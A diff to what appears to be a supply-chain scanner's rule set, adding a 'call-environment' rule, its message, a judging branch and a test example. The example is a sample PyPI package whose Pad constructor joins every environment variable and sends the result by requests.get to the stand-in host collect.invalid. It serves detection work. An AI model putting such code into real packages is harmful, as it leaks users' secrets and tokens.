@@ -37,6 +37,7 @@ CARD = Card(
         "autorun-data": "In code that runs by itself the value of a secret goes to the network.",
         "autorun-scope": "In code that runs by itself a secret is read and a connection made in one function.",
         "call-harvest": "A function sends several secrets, or sends one to a suspicious destination.",
+        "call-environment": "A function sends the whole environment.",
         "call-data": "In a function the value of a secret goes to the network.",
         "call-scope": "In a function a secret is read and a connection made.",
         "first-contact-harvest": "No earlier release; what runs by itself sends several secrets or hides where to.",
@@ -87,6 +88,18 @@ EXAMPLES = (
         },
         expect="harvest",
         at="pad/__init__.py:2",
+    ),
+    Example(
+        title="each new object sends every variable of the environment",
+        ecosystem="pypi",
+        before={"pad/__init__.py": "class Pad(dict):\n    WIDTH = 2\n"},
+        after={
+            "pad/__init__.py": "import os, requests\nclass Pad(dict):\n    WIDTH = 2\n    def __init__(self):\n"
+            "        text = ''\n        for value in os.environ.values():\n            text += value\n"
+            "        requests.get('https://collect.invalid/in/' + text)\n"
+        },
+        expect="call-environment",
+        at="pad/__init__.py:6",
     ),
     Example(
         title="first contact with an installer that posts the user's registry token",
@@ -160,6 +173,7 @@ _MESSAGES = {
     "autorun-data": "sends a secret to the network without being called",
     "autorun-scope": "reads a secret and connects to the network without being called",
     "call-harvest": "sends secrets to the network when it is called",
+    "call-environment": "sends the whole environment to the network when it is called",
     "call-data": "sends a secret to the network when it is called",
     "call-scope": "reads a secret and connects to the network when it is called",
     "first-contact-harvest": "sends secrets to the network without being called",
@@ -193,6 +207,8 @@ def _judge(pair: Pair, found: list[tuple[Chain, bool]]) -> Iterator[tuple[str, C
                     yield "first-contact-harvest" if harvest else plain, chain
             elif harvest:
                 yield "harvest" if autorun else "call-harvest", chain
+            elif new_kind and not autorun and chain.data and chain.source.fact.kind is Kind.ENV_DUMP:
+                yield "call-environment", chain
             elif new_kind:
                 yield f"{'autorun' if autorun else 'call'}-{'data' if chain.data else 'scope'}", chain
 
